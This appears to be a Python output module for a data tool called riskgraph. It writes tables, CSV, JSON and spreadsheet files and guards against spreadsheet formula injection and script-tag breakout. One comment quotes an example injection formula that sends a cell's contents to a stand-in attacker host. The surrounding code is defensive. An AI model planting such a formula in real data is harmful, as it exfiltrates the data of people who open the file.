"""Printing and writing results: tables on the terminal, CSV/JSON on stdout, files by extension.

Shared by the command line and usable from notebooks. Diagnostics go to
stderr so that stdout stays clean data for pipes.
"""
from __future__ import annotations

import contextvars
import json
import math
import re
import sys
from pathlib import Path
from typing import TYPE_CHECKING

from riskgraph.errors import InputError
from riskgraph.formatting import render_table, round_meaningful, rounded

if TYPE_CHECKING:  # pandas loads on first use: `riskgraph --help` stays quick
    import pandas as pd

WRITABLE = (".csv", ".parquet", ".xlsx", ".json")

# --------------------------------------------------------------------------- safe to open
# Files riskgraph writes are opened by people in spreadsheet programs. A cell
# whose text starts with "=", "+", "-" or "@" is read there as a formula
# ("CSV injection" / "formula injection"): a supplier named
# =HYPERLINK("http://evil.example/?x="&A1,"click") becomes a live link that
# sends the neighbouring cell away. OWASP's guidance (https://owasp.org/www-community/attacks/CSV_Injection)
# is to prefix such cells, and cells starting with TAB or CR, with a single
# quote, which spreadsheet programs show as text. Workbooks need no prefix:
# their cells are typed, and :func:`excel_writer` stores every text as text.

#: First characters that make a spreadsheet program read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$")
_RAW_CSV: contextvars.ContextVar[bool] = contextvars.ContextVar("riskgraph_raw_csv", default=False)
#: xlsxwriter options of every workbook riskgraph writes: text stays text.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def set_raw_csv(raw: bool) -> None:
    """Write CSV cells as they are (``--raw-csv``): no quote before formula-like text."""
    _RAW_CSV.set(bool(raw))


def raw_csv() -> bool:
    """Whether CSV cells are written raw (see :func:`set_raw_csv`)."""
    return _RAW_CSV.get()


def neutralise_cell(value):
    """A CSV cell that no spreadsheet program runs as a formula (OWASP CSV-injection guidance).

    Text starting with ``=``, ``+``, ``-``, ``@``, TAB or CR gets a leading
    ``'``, unless it is a plain number (``-5``, ``+3.2e4``). Text that already
    starts with quotes before such a character gets one more, so that
    :func:`restore_cell` gives every value back exactly (the chain readers
    call it: a chain written as CSV reads back equal).

    >>> neutralise_cell("=1+1"), neutralise_cell("-5"), neutralise_cell("-5 t"), neutralise_cell("Acme")
    ("'=1+1", '-5', "'-5 t", 'Acme')
    """
    if not isinstance(value, str) or not value:
        return value
    bare = value.lstrip("'")
    if bare[:1] not in FORMULA_TRIGGERS or (len(bare) == len(value) and _NUMBER.match(value)):
        return value
    return "'" + value


def restore_cell(value):
    """The value :func:`neutralise_cell` was given: one leading ``'`` before formula-like text removed.

    >>> restore_cell("'=1+1"), restore_cell("''=x"), restore_cell("'quoted'")
    ('=1+1', "'=x", "'quoted'")
    """
    if isinstance(value, str) and value[:1] == "'" and value.lstrip("'")[:1] in FORMULA_TRIGGERS:
        return value[1:]
    return value


def _neutralise_series(values: pd.Series) -> pd.Series:
    if values.dtype.kind in "biufcmM":
        return values
    return values.map(neutralise_cell, na_action="ignore")


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell and header passed through :func:`neutralise_cell`."""
    out = frame.copy()
    for position in range(out.shape[1]):
        out.isetitem(position, _neutralise_series(out.iloc[:, position]))
    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in out.columns]
    if out.index.dtype == object:
        out.index = out.index.map(neutralise_cell)
    return out


def _has_lone_cr(frame: pd.DataFrame) -> bool:
    texts = [frame[c] for c in frame.columns if frame[c].dtype.kind not in "biufcmM"]
    return any(values.astype("string").str.contains("\r", regex=False).fillna(False).any() for values in texts) \
        or any("\r" in str(c) for c in frame.columns)


def write_csv(frame: pd.DataFrame, target, *, index: bool = False, raw: bool | None = None) -> None:
    """Write a frame as CSV that is safe to open in a spreadsheet program and reads back the same.

    Parameters
    ----------
    frame : DataFrame
    target : path or text stream
    index : bool
        Write the index as the first column.
    raw : bool, optional
        Write cells as they are; default: the ``--raw-csv`` setting
        (:func:`set_raw_csv`), off unless asked for.

    Notes
    -----
    Formula-like text gets a leading ``'`` (:func:`neutralise_cell`). Cells
    holding a line break are quoted; when some cell holds a lone carriage
    return the lines end in CRLF (RFC 4180), because Python's CSV writer only
    quotes the characters of its line terminator.
    """
    raw = raw_csv() if raw is None else raw
    shown = frame if raw else csv_safe(frame)
    terminator = "\r\n" if _has_lone_cr(frame) else "\n"
    if isinstance(target, (str, Path)):
        Path(target).parent.mkdir(parents=True, exist_ok=True)
    shown.to_csv(target, index=index, lineterminator=terminator)


def excel_writer(path: Path | str) -> pd.ExcelWriter:
    """A ``pd.ExcelWriter`` (xlsxwriter) that writes every text as text, never as a formula or link.

    xlsxwriter turns strings starting with ``=`` into formulas and URL-like
    strings into hyperlinks by default; every workbook riskgraph writes goes
    through here so that a supplier name cannot become a live formula.
    """
    import pandas as pd

    return pd.ExcelWriter(path, engine="xlsxwriter", engine_kwargs={"options": dict(XLSX_OPTIONS)})


def json_for_html(value) -> str:
    """JSON text to embed in an HTML ``<script>``: ``<``, ``>``, ``&`` and line separators as ``\\u`` escapes.

    ``</script>`` would end the script and ``<!--<script>`` would switch
    the HTML parser into a state where the real ``</script>`` no longer
    ends it (HTML Living Standard, "script data double escaped state");
    escaped, neither can occur, and ``JSON.parse`` reads the same data.
    """
    text = json.dumps(to_jsonable(value), ensure_ascii=False)
    return (text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
            .replace("\u2028", "\\u2028").replace("\u2029", "\\u2029"))


def stderr(message: str) -> None:
    """A diagnostic line on stderr."""
    print(message, file=sys.stderr)


def _plain(value):
    import numpy as np
    import pandas as pd

    if value is None or value is pd.NA:
        return None
    if isinstance(value, (np.integer,)):
        return int(value)
    if isinstance(value, (np.floating, float)):
        return None if math.isnan(value) else round_meaningful(float(value))
    if isinstance(value, (np.bool_,)):
        return bool(value)
    if isinstance(value, dict):
        return {str(k): _plain(v) for k, v in value.items()}
    if isinstance(value, (list, tuple, np.ndarray)):
        return [_plain(v) for v in value]
    return value


def to_jsonable(value):
    """Numbers, NaN and pandas NA made JSON-safe (NaN → null), floats rounded at their last meaningful digit."""
    import pandas as pd

    if isinstance(value, pd.DataFrame):
        return [_plain(r) for r in value.astype(object).to_dict("records")]
    return _plain(value)


def print_json(value) -> None:
    """Exactly one JSON document on stdout."""
    sys.stdout.write(json.dumps(to_jsonable(value), ensure_ascii=False, indent=2) + "\n")


def emit_table(frame: pd.DataFrame, *, title: str | None = None, fmt: str = "table", lang: str | None = None,
               kinds: dict | None = None, default_kind: str | None = None, floatfmt: str | None = None) -> None:
    """Print a DataFrame as a table that fits the terminal (``table``), CSV or JSON records on stdout.

    The table follows :func:`riskgraph.formatting.render_table` (width from
    ``COLUMNS``, numbers by kind, ids cut with an ellipsis); CSV and JSON
    carry every value, rounded at its last meaningful digit. ``floatfmt``
    (e.g. ``"{:.3f}"``) formats the float columns whose kind the names do
    not tell.
    """
    if fmt == "csv":
        write_csv(rounded(frame), sys.stdout)
        return
    if fmt == "json":
        print_json(frame)
        return
    text = render_table(frame, title=title, lang=lang, kinds=kinds, default_kind=default_kind, floatfmt=floatfmt)
    sys.stdout.write(text + "\n\n")


def write_frame(frame: pd.DataFrame, path: Path | str, *, sheet: str = "data") -> Path:
    """Write a DataFrame to a file chosen by extension: .csv, .parquet, .xlsx or .json."""
    import pandas as pd

    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in WRITABLE:
        raise InputError(f"cannot write '{suffix or path.name}': use one of {', '.join(WRITABLE)}", path=path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if suffix == ".csv":
        write_csv(rounded(frame), path)
    elif suffix == ".parquet":
        frame.to_parquet(path, index=False)
    elif suffix == ".xlsx":
        with excel_writer(path) as writer:
            frame.to_excel(writer, sheet_name=sheet[:31], index=False)
    else:
        path.write_text(json.dumps(to_jsonable(frame), ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    return path
